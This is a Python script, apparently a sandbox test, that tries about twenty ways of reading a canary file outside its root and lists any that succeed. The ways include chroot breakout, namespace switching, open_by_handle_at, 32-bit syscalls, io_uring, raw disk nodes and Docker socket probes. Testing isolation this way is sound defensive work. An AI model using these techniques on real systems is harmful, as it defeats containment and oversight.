"""Tries to read one file that lies outside of the root, by every way that is not a plain path."""
import ctypes, mmap, os, platform, socket, stat, struct, subprocess, sys

SECRET = os.environ["SECRET_PATH"]
libc = ctypes.CDLL(None, use_errno=True)
WORD = b"canary" + b"-"
escaped = []

def attempt(name):
    def run(action):
        # A process of its own: what it does to itself stays with it.
        reader, writer = os.pipe()
        child = os.fork()
        if child == 0:
            try:
                content = action() or b""
            except BaseException:
                content = b""
            os.write(writer, b"x" if WORD in bytes(content) else b"-")
            os._exit(0)
        os.close(writer)
        if os.read(reader, 1) == b"x":
            escaped.append(name)
        os.close(reader)
        os.waitpid(child, 0)
    return run

def content(path, **options):
    fd = os.open(path, os.O_RDONLY, **options)
    return os.read(fd, 4096)

@attempt("dots")
def _():
    return content("/" + "../" * 40 + SECRET)

@attempt("dots from a working directory")
def _():
    os.chdir("/usr/lib")
    return content("../" * 40 + SECRET.lstrip("/"))

@attempt("a descriptor of the root")
def _():
    root = os.open("/", os.O_RDONLY)
    return content("../" * 5 + SECRET.lstrip("/"), dir_fd=root)

@attempt("a symbolic link")
def _():
    os.symlink("/.." * 20 + SECRET, "/tmp/outwards")
    try:
        return content("/tmp/outwards")
    finally:
        os.unlink("/tmp/outwards")

@attempt("a hard link")
def _():
    os.link(SECRET, "/tmp/hard")
    return content("/tmp/hard")

@attempt("the root of processes")
def _():
    for name in os.listdir("/proc"):
        for way in ["root", "cwd", "root/..", "cwd/../../../../../.."]:
            try:
                found = content(f"/proc/{name}/{way}{SECRET}")
            except OSError:
                continue
            if WORD in found:
                return found

@attempt("descriptors of processes")
def _():
    for name in ["self", "thread-self", "1", str(os.getppid())]:
        for number in range(30):
            try:
                found = content(f"/proc/{name}/fd/{number}/../../../../../..{SECRET}")
            except OSError:
                continue
            if WORD in found:
                return found

@attempt("chroot out of chroot")
def _():
    os.makedirs("/tmp/jail", exist_ok=True)
    root = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(root)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return content(SECRET)

@attempt("another namespace")
def _():
    for flags in [0x10000000, 0x00020000, 0x10020000]:
        libc.unshare(flags)
    for pid in [1, os.getppid()]:
        for kind in ["mnt", "user", "pid"]:
            try:
                libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
            except OSError:
                pass
    libc.mount(b"proc", b"/tmp", b"proc", 0, None)
    libc.mount(b"/", b"/mnt", None, 4096 | 16384, None)
    libc.pivot_root(b"/mnt", b"/mnt")
    return content(SECRET)

@attempt("openat2")
def _():
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    for path in [SECRET, "/" + "../" * 30 + SECRET, "/proc/self/root/.." + SECRET]:
        fd = libc.syscall(437, -100, path.encode(), how, len(how))
        if fd >= 0:
            return os.read(fd, 4096)

@attempt("file handles")
def _():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    libc.name_to_handle_at(-100, b"/", handle, ctypes.byref(mount), 0)
    root = os.open("/", os.O_RDONLY)
    # The root of an ext4 is inode 2.
    for inode in [2, 128, 256]:
        raw = struct.pack("Ii", 8, 1) + struct.pack("II", inode, 0)
        fd = libc.open_by_handle_at(root, ctypes.create_string_buffer(raw), os.O_RDONLY | os.O_DIRECTORY)
        if fd >= 0:
            return content(SECRET.lstrip("/"), dir_fd=fd)

def machine_code(code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return page, ctypes.CFUNCTYPE(ctypes.c_long)(address)

if platform.machine() == "x86_64":
    @attempt("calls of 32 bits")
    def _():
        low = libc.mmap
        low.restype = ctypes.c_void_p
        place = low(None, 4096, 3, 0x22 | 0x40, -1, 0)
        ctypes.memmove(place, SECRET.encode() + b"\0", len(SECRET) + 1)
        # open(path, O_RDONLY) through int 0x80
        code = b"\x53\xb8\x05\0\0\0\xbb" + struct.pack("I", place) + b"\x31\xc9\x31\xd2\xcd\x80\x5b\x48\x98\xc3"
        page, call = machine_code(code)
        fd = call()
        return os.read(fd, 4096) if fd >= 0 else b""

    @attempt("calls of x32")
    def _():
        fd = libc.syscall(0x40000000 | 2, SECRET.encode(), 0, 0)
        return os.read(fd, 4096) if fd >= 0 else b""

@attempt("an io_uring")
def _():
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, parameters)
    if ring >= 0:
        offsets = struct.unpack_from("10I", parameters.raw, 40)
        entries = mmap.mmap(ring, 4 * 64, offset=0x10000000)
        rings = mmap.mmap(ring, 4096, offset=0)
        path = ctypes.create_string_buffer(SECRET.encode())
        entries[:64] = struct.pack("BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0).ljust(64, b"\0")
        tail, array = offsets[1], offsets[6]
        rings[array:array + 4] = struct.pack("I", 0)
        rings[tail:tail + 4] = struct.pack("I", 1)
        libc.syscall(426, ring, 1, 1, 1, None, 0)
        for fd in range(3, 20):
            try:
                found = os.read(fd, 4096)
            except OSError:
                continue
            if WORD in found:
                return found

@attempt("a traced child")
def _():
    child = os.fork()
    if child == 0:
        if libc.ptrace(0, 0, 0, 0) < 0:
            os._exit(1)
        os.kill(os.getpid(), 19)
        os._exit(len(content(SECRET)) and 0)
    _, status = os.waitpid(child, 0x40000000)
    if not os.WIFSTOPPED(status):
        return b""
    for _ in range(400):
        if libc.ptrace(24, child, 0, 0) < 0:
            break
        os.waitpid(child, 0)
    libc.ptrace(7, child, 0, 0)
    _, status = os.waitpid(child, 0)
    return WORD if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0 else b""

@attempt("the disk itself")
def _():
    for line in open("/proc/partitions").read().splitlines()[2:]:
        major, minor, _, name = line.split()
        path = f"/tmp/{name}"
        try:
            os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(int(major), int(minor)))
            if len(content(path)) > 0:
                return WORD
        except OSError:
            pass
        finally:
            if os.path.lexists(path):
                os.unlink(path)

@attempt("kernel memory")
def _():
    for path in ["/dev/mem", "/dev/kmem", "/proc/kcore"]:
        try:
            if os.read(os.open(path, os.O_RDONLY), 16):
                return WORD
        except OSError:
            pass

@attempt("an interpreter")
def _():
    with open("/tmp/script", "w") as file:
        file.write(f"#!{SECRET}\n")
    os.chmod("/tmp/script", 0o755)
    ended = subprocess.run(["/tmp/script"], capture_output=True)
    os.unlink("/tmp/script")
    return ended.stdout

@attempt("a socket of the machine")
def _():
    for path in ["/var/run/docker.sock", "/run/docker.sock", os.path.dirname(os.path.dirname(SECRET)) + "/docker/socket"]:
        try:
            socket.socket(socket.AF_UNIX).connect(path)
            return WORD
        except OSError:
            pass

@attempt("settings of the kernel")
def _():
    for path in ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/proc/sys/kernel/modprobe"]:
        try:
            os.close(os.open(path, os.O_WRONLY))
            return WORD
        except OSError:
            pass

for name in ["jail", "hard"]:
    path = f"/tmp/{name}"
    if os.path.isdir(path):
        os.rmdir(path)
    elif os.path.lexists(path):
        os.unlink(path)
print(escaped)
